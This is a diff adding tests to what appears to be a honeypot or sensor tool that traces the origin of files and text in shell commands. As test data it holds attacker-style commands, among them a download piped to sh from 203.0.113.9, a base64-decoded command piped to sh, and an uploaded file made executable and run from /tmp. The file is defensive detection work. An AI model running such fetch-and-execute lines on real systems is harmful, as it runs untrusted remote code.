@@ -91,6 +91,30 @@ def test_what_the_sensor_saw_come_counts_as_well() -> None:
     assert "later.exec" not in told(["./other"], transfers=seen)
 
 
+def test_what_the_sensor_saw_come_before_a_line_is_a_file_of_the_session() -> None:
+    seen = [
+        Transfer("uploaded", "pear", ts=10.0),
+        Transfer("fetched", "/srv/plum", "http://203.0.113.9/p", ts=10.0),
+    ]
+    script = Script(seen)
+    (facts,) = script.line("chmod +x /tmp/pear", 10.0).values()
+    assert facts.values["arg.origin"] == ["uploaded"]
+    assert facts.because["arg.origin"] == "the sensor saw pear come (uploaded)"
+    (facts,) = script.line("/tmp/pear", 11.0).values()
+    assert facts.values["exec.origin"] == ["uploaded", "chmodded"]
+    (facts,) = script.line("rm /srv/plum http://203.0.113.9/p/pear", 12.0).values()
+    assert facts.values["arg.origin"] == ["fetched"]
+    assert Script(seen).line("rm /tmp/plum", 12.0)["rm /tmp/plum"].values == {}, "elsewhere is another file"
+
+
+def test_what_comes_after_a_line_or_nobody_knows_when_is_told_as_later() -> None:
+    for ts, line in ((10.1, 10.0), (None, 10.0), (10.0, None)):
+        script = Script([Transfer("uploaded", "pear", ts=ts)])
+        (facts,) = script.line("sh /tmp/pear", line).values()
+        assert "exec.origin" not in facts.values
+        assert facts.values["later.exec"] == ["uploaded"]
+
+
 def test_a_shell_fed_by_a_pipe_knows_where_its_text_came_from() -> None:
     assert told(["curl -s http://203.0.113.9/x | sh"])["stdin.origin"] == ["fetched"]
     assert told(["echo aWQK | base64 -d | sh"])["stdin.origin"] == ["decoded"]
